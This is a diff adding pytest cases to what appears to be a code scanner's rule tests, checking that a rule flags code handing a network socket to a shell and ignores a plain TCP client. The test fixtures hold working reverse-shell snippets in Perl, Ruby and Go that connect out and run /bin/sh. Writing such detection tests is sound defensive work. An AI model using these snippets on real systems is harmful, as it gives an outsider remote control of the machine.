@@ -160,3 +160,35 @@ def test_env_files_found_by_a_listing_are_no_credential_folder() -> None:
         "  text = File.read(path)\n  names |= text.scan(/^([A-Z_]+)=/).flatten\nend\n"
     )
     assert _rules("s.rb", text) == set()
+
+
+SOCKET_SHELL = "SKC-FL-047"
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "t.pl",
+            "my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p);\n"
+            "open(STDIN, '<&', $s); open(STDOUT, '>&', $s);\nexec { '/bin/sh' } 'sh', '-i';\n",
+        ),
+        (
+            "t.rb",
+            "s = TCPSocket.new(host, port)\n$stdin.reopen(s); $stdout.reopen(s)\n"
+            "exec('/bin/sh -i')\n",
+        ),
+        (
+            "t.go",
+            'c, _ := net.Dial("tcp", addr)\ncmd := exec.Command("/bin/sh")\n'
+            "cmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()\n",
+        ),
+    ],
+)
+def test_a_connection_handed_to_a_shell(path: str, text: str) -> None:
+    assert SOCKET_SHELL in _rules(path, text)
+
+
+def test_a_client_that_only_talks_to_a_server() -> None:
+    text = 'c, _ := net.Dial("tcp", addr)\nfmt.Fprintf(c, "PING\\r\\n")\nbufio.NewReader(c).ReadString(10)\n'
+    assert _rules("t.go", text) == set()
